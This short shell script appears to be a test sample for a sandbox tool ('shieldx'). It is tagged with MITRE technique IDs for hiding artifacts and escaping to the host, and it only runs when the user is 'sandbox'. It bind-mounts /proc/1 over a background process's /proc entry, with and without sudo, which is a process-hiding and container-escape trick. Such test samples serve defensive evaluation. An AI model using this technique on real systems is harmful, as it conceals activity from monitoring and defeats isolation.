#!/bin/sh
# technique: T1564.013 T1611
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

sleep 3 & mount --bind /proc/1 /proc/$!; sudo mount --bind /proc/1 /proc/$!
